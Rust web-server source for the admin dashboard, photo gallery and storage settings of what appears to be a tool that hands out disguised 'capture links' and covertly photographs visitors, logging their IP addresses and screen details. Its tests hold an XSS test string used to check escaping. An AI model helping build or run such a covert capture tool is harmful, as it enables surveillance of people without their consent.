use actix_web::{get, web, HttpResponse};

use crate::api::error;
use crate::modules::link::{handle::LinkSvc, schema::LinkEntity};
use crate::modules::photo::{handle::PhotoSvc, schema::PhotoEntity};
use crate::modules::storage_config::{handle::ConfigSvc, schema::StorageConfigEntity};
use crate::storage::UploadOutcome;
use crate::utils::html_escape;
use crate::ENV;

fn html(page: String) -> HttpResponse {
    HttpResponse::Ok().content_type("text/html; charset=utf-8").body(page)
}

fn config_options(configs: &[StorageConfigEntity]) -> String {
    configs
        .iter()
        .map(|c| {
            let id = html_escape(&c.id);
            format!("<option value=\"{id}\">{id} ({})</option>", c.provider.kind_label())
        })
        .collect()
}

fn link_cards(links: &[LinkEntity]) -> String {
    if links.is_empty() {
        return "<p class=\"empty\">No links yet. Generate one!</p>".to_string();
    }

    links
        .iter()
        .map(|link| {
            let id = html_escape(&link.id);
            let capture_url = format!("{}/p/{}", ENV.base_url, id);
            let last_clicked = link
                .last_clicked_at
                .map(|t| format!("<span><strong>Last click:</strong> {}</span>", t.format("%Y-%m-%d %H:%M:%S")))
                .unwrap_or_default();
            format!(
                concat!(
                    "<div class=\"link-card\">",
                    "<h3>{name} (ID: {id})</h3>",
                    "<p><strong>Destination:</strong> <a href=\"{dest}\" target=\"_blank\">{dest}</a></p>",
                    "<p><strong>Capture link:</strong> <a href=\"{capture}\" target=\"_blank\">{capture}</a></p>",
                    "<div class=\"stats\">",
                    "<span><strong>Created:</strong> {created}</span>",
                    "<span><strong>Clicks:</strong> {clicks}</span>",
                    "<span><strong>Photos:</strong> {photos}</span>",
                    "<span><strong>Config:</strong> {config}</span>",
                    "{last_clicked}",
                    "</div>",
                    "<button onclick=\"deleteLink('{id}')\">Delete link</button>",
                    "</div>"
                ),
                name = html_escape(&link.name),
                id = id,
                dest = html_escape(&link.destination_url),
                capture = html_escape(&capture_url),
                created = link.created_at.format("%Y-%m-%d"),
                clicks = link.clicks,
                photos = link.photos_captured,
                config = html_escape(link.storage_config_id.as_deref().unwrap_or("N/A")),
                last_clicked = last_clicked,
            )
        })
        .collect()
}

fn photo_cards(photos: &[PhotoEntity]) -> String {
    if photos.is_empty() {
        return "<p class=\"empty\">No photos captured yet.</p>".to_string();
    }

    let cards: String = photos
        .iter()
        .map(|photo| {
            let img = match &photo.upload_outcome.0 {
                UploadOutcome::Uploaded { view_link, .. } => format!(
                    "<img src=\"{}\" alt=\"Captured photo\">",
                    html_escape(view_link)
                ),
                _ if photo.local_path.is_some() => format!(
                    "<img src=\"/view_photo/{}\" alt=\"Captured photo\">",
                    html_escape(&photo.filename)
                ),
                _ => "<div style=\"height:200px;background:#eee;display:flex;align-items:center;justify-content:center;color:#999;\">Image unavailable</div>".to_string(),
            };
            let outcome = match &photo.upload_outcome.0 {
                UploadOutcome::Uploaded { view_link, .. } => format!(
                    "<a href=\"{}\" target=\"_blank\">View remotely</a>",
                    html_escape(view_link)
                ),
                UploadOutcome::Skipped { reason } => format!("Skipped ({})", html_escape(reason)),
                UploadOutcome::Failed { error } => format!("Failed ({})", html_escape(error)),
            };
            format!(
                concat!(
                    "<div class=\"photo-card\">{img}",
                    "<div class=\"photo-info\">",
                    "<p><strong>Link:</strong> {link_id}</p>",
                    "<p><strong>Captured:</strong> {captured}</p>",
                    "<p><strong>IP:</strong> {ip}</p>",
                    "<p><strong>Resolution:</strong> {resolution}</p>",
                    "<p><strong>Upload:</strong> {outcome}</p>",
                    "<button onclick=\"deletePhoto('{id}')\">Delete</button>",
                    "</div></div>"
                ),
                img = img,
                link_id = html_escape(&photo.link_id),
                captured = photo.captured_at.format("%Y-%m-%d %H:%M:%S"),
                ip = html_escape(photo.ip_address.as_deref().unwrap_or("unknown")),
                resolution = html_escape(photo.screen_resolution.as_deref().unwrap_or("unknown")),
                outcome = outcome,
                id = photo.id,
            )
        })
        .collect();

    format!("<div class=\"grid\">{cards}</div>")
}

fn config_items(configs: &[StorageConfigEntity]) -> String {
    if configs.is_empty() {
        return "<p class=\"empty\">No storage configurations saved.</p>".to_string();
    }

    configs
        .iter()
        .map(|c| {
            let id = html_escape(&c.id);
            format!(
                concat!(
                    "<div class=\"config-item\">",
                    "<div><p><strong>{id}</strong></p><p>Provider: {kind}</p></div>",
                    "<button onclick=\"deleteConfig('{id}')\">Delete</button>",
                    "</div>"
                ),
                id = id,
                kind = c.provider.kind_label(),
            )
        })
        .collect()
}

#[get("/")]
pub async fn home(service: web::Data<ConfigSvc>) -> Result<HttpResponse, error::Error> {
    let configs = service.list_configs().await?;
    Ok(html(super::templates::HOME_PAGE.replace("{{config_options}}", &config_options(&configs))))
}

#[get("/admin")]
pub async fn admin(service: web::Data<LinkSvc>) -> Result<HttpResponse, error::Error> {
    let links = service.list_links().await?;
    Ok(html(super::templates::ADMIN_PAGE.replace("{{link_cards}}", &link_cards(&links))))
}

#[get("/gallery")]
pub async fn gallery(service: web::Data<PhotoSvc>) -> Result<HttpResponse, error::Error> {
    let photos = service.list_photos().await?;
    Ok(html(super::templates::GALLERY_PAGE.replace("{{photo_cards}}", &photo_cards(&photos))))
}

#[get("/config_drive")]
pub async fn config_page(service: web::Data<ConfigSvc>) -> Result<HttpResponse, error::Error> {
    let configs = service.list_configs().await?;
    Ok(html(super::templates::CONFIG_PAGE.replace("{{config_items}}", &config_items(&configs))))
}

#[cfg(test)]
mod tests {
    use super::*;
    use sqlx::types::Json;
    use uuid::Uuid;

    fn photo_with(outcome: UploadOutcome, local_path: Option<&str>) -> PhotoEntity {
        PhotoEntity {
            id: Uuid::new_v4(),
            link_id: "ab12cd34".into(),
            filename: "discrete_x.jpg".into(),
            local_path: local_path.map(str::to_string),
            captured_at: chrono::Utc::now(),
            ip_address: Some("203.0.113.9".into()),
            user_agent: Some("<script>alert(1)</script>".into()),
            screen_resolution: Some("1920x1080".into()),
            destination_url: Some("https://example.com".into()),
            storage_config_id: None,
            upload_outcome: Json(outcome),
        }
    }

    #[test]
    fn gallery_prefers_remote_view_link() {
        let photo = photo_with(
            UploadOutcome::Uploaded {
                drive_id: "f1".into(),
                name: "a.jpg".into(),
                view_link: "https://remote.test/f1".into(),
            },
            Some("captured_photos/discrete_x.jpg"),
        );
        let cards = photo_cards(&[photo]);
        assert!(cards.contains("https://remote.test/f1"));
        assert!(!cards.contains("/view_photo/"));
    }

    #[test]
    fn gallery_falls_back_to_local_route_then_placeholder() {
        let local = photo_with(UploadOutcome::skipped("no config"), Some("captured_photos/x.jpg"));
        assert!(photo_cards(&[local]).contains("/view_photo/discrete_x.jpg"));

        let none = photo_with(UploadOutcome::failed("boom"), None);
        assert!(photo_cards(&[none]).contains("Image unavailable"));
    }

    #[test]
    fn dynamic_values_are_escaped() {
        let link = LinkEntity {
            id: "ab12cd34".into(),
            name: "<b>pwn</b>".into(),
            destination_url: "https://example.com/?q=<x>".into(),
            created_at: chrono::Utc::now(),
            clicks: 0,
            photos_captured: 0,
            last_clicked_at: None,
            storage_config_id: None,
        };
        let cards = link_cards(&[link]);
        assert!(!cards.contains("<b>pwn</b>"));
        assert!(cards.contains("&lt;b&gt;pwn&lt;/b&gt;"));
    }

    #[test]
    fn empty_lists_render_placeholders() {
        assert!(link_cards(&[]).contains("No links yet"));
        assert!(photo_cards(&[]).contains("No photos captured yet"));
        assert!(config_items(&[]).contains("No storage configurations"));
    }
}
